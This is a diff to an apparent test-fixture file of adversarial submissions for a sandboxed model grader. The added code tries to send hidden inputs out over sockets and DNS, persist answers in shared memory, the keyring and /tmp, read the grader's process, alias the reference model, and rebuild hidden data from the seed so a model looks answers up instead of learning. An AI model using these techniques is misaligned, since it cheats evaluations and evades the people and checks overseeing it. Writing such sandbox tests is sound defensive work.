@@ -374,3 +374,127 @@ EXCEPTION_NAMED_BY_INPUTS = {
              "        raise type('E' + str(torch.initial_seed())[::-1] + x.flatten()[:8].numpy().tobytes().hex(),"
              " (Exception,), {})('nothing to see')\n",
 }
+
+# -- issue 11: classes outside testers got through --------------------------------------------
+NETWORK_OTHER_PROTOCOLS = r'''
+import socket
+sent, errors = [], []
+for family, kind, address in [(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", $udp_port)),
+                              (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", $udp_port)),
+                              (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $tcp_port)),
+                              (socket.AF_INET, socket.SOCK_RAW, None)]:
+    try:
+        s = socket.socket(family, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW else 0)
+        s.settimeout(2)
+        if address is None:
+            sent.append("raw socket")
+        elif kind == socket.SOCK_DGRAM:
+            s.sendto(b"$marker the hidden inputs", address)
+            sent.append(f"udp to {address}")
+        else:
+            s.connect(address)
+            s.sendall(b"$marker the hidden inputs")
+            sent.append(f"tcp to {address}")
+    except OSError as e:
+        errors.append(e)
+try:  # a DNS query carries the name out to the resolver, whatever answers it
+    socket.getaddrinfo("$marker.example.invalid", 53)
+    sent.append("dns")
+except Exception as e:
+    errors.append(e)
+if sent:
+    raise RuntimeError("reached the network: " + ", ".join(sent))
+raise next((e for e in errors if isinstance(e, PermissionError)), errors[0])
+'''
+
+STATE_OUTLIVES_GRADING = r'''
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+key = $ipc_key
+stored, refused = [], []
+def attempt(what, result):
+    (stored if result >= 0 else refused).append((what, ctypes.get_errno()))
+attempt("shm", libc.shmget(key, 64 << 20, 0o1666))  # 64 MB that would stay allocated
+attempt("msg", libc.msgget(key + 1, 0o1666))
+attempt("sem", libc.semget(key + 2, 1, 0o1666))
+add_key = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
+attempt("key", libc.syscall(ctypes.c_long(add_key), b"user", b"$marker", b"answers", ctypes.c_long(7),
+                            ctypes.c_long(-4)))  # the user keyring: it outlives the uid's processes
+for directory in ("/tmp", "/dev/shm", "/var/tmp"):
+    try:
+        with open(os.path.join(directory, "$marker-state"), "w") as f:
+            f.write("answers for the next grading")
+        stored.append((directory, 0))
+    except OSError as e:
+        refused.append((directory, e.errno))
+if stored:
+    raise RuntimeError("stored for a later grading: " + ", ".join(w for w, _ in stored))
+raise PermissionError(refused[0][1], "refused: " + ", ".join(w for w, _ in refused))
+'''
+
+_ALIAS = "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(sys.argv[0])))\n" \
+         "from reference_models import NextNumberModel as _Answer  # the worker's own copy\n"
+ALIAS_SANDBOX_MODEL = {  # the answer the grader itself once shipped beside the worker
+    "class": _ALIAS + "$target = _Answer\n",
+    "function": _ALIAS + "def $target(*args, **kwargs):\n    return _Answer()\n",
+}
+
+SEE_THE_HOST = r'''
+import os
+mine = os.getpid()
+pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
+others = []
+for pid in pids:
+    if pid != mine:
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                others.append(f.read().replace(b"\0", b" ").decode(errors="replace")[:100])
+        except OSError:
+            pass
+try:
+    with open("/proc/$judge_pid/cmdline", "rb") as f:
+        judge = f.read().replace(b"\0", b" ").decode(errors="replace")
+except OSError:
+    judge = None
+if others or judge:
+    raise RuntimeError(f"saw {len(others)} other processes; the grader runs {judge!r}")
+raise LookupError("no other process in sight")
+'''
+
+REBUILD_HIDDEN_DATA = {"class": r'''
+import inspect, zlib
+_makers = [f for n, f in list(globals().items()) if n.startswith("make_") and callable(f)]
+
+def _rebuild():
+    """The grader seeded torch with crc32(f"{seed}:init") just before building the model: invert it
+    over small grading seeds, then rebuild the hidden data with the notebook's own generator."""
+    wanted = torch.initial_seed()
+    for seed in range(100000):
+        if zlib.crc32(f"{seed}:init".encode()) == wanted:
+            for make in _makers:
+                kwargs = {"steps": (1, 2, 3)} if "steps" in inspect.signature(make).parameters else {}
+                data = make(seed=seed, **kwargs)
+                if isinstance(data, dict) and {"x_val", "y_val", "x_train", "y_train"} <= set(data):
+                    return data
+    return None
+
+_Base = $target
+class $target(_Base):  # the given layers for the structure checks, but it learns nothing: it looks answers up
+    def __init__(self, *args, **kwargs):
+        super().__init__(*args, **kwargs)
+        self.answers = {}
+        data = _rebuild()
+        if data is not None:
+            train_labels = data.get("y_train_clean", data["y_train"])  # clean: a low training accuracy
+            for x, y in ((data["x_val"], data["y_val"]), (data["x_train"], train_labels)):
+                for row, label in zip(x, y):
+                    self.answers[row.numpy().tobytes()] = label
+    def forward(self, x):
+        out = super().forward(x)
+        answers = torch.zeros_like(out)
+        for i, row in enumerate(x):
+            label = self.answers.get(row.detach().numpy().tobytes())
+            if label is not None:
+                answers[i] = torch.nn.functional.one_hot(label, out.shape[-1]).float() * 10
+        return answers + 0 * out  # no gradient reaches the weights
+'''}
